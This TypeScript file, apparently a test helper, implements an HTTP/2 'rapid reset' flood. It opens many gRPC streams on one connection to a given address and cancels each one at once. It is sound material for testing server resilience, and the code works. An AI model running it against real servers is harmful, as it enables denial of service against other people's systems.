import { connect } from 'node:net';
import { FRAME, http2Frame, PREFACE } from './raw-http2.ts';

const CANCEL = Buffer.from([0, 0, 0, 8]);
const END_HEADERS = 4;

/** A header that no table knows (RFC 7541, section 6.2.2). */
function literal(name: string, value: string): Buffer {
  const text = (of: string) => Buffer.concat([Buffer.from([of.length]), Buffer.from(of)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

/**
 * Begins `count` calls of a method on one connection, and resets each at once. Resolves when it is
 * closed.
 */
export async function floodWithResets(
  address: string,
  method: string,
  count: number,
): Promise<void> {
  const block = Buffer.concat([
    // `:method: POST` and `:scheme: http` of the static table.
    Buffer.from([0x83, 0x86]),
    literal(':path', method),
    literal(':authority', address),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);
  const frames = [PREFACE, http2Frame(FRAME.settings)];
  for (let index = 0; index < count; index += 1) {
    const stream = 2 * index + 1;
    frames.push(http2Frame(FRAME.headers, { flags: END_HEADERS, stream, payload: block }));
    frames.push(http2Frame(FRAME.reset, { stream, payload: CANCEL }));
  }
  const [host = '', port] = address.split(':');
  const socket = connect(Number(port), host);
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => {});
  socket.once('end', () => socket.destroy());
  socket.resume();
  socket.write(Buffer.concat(frames));
  await closed;
}
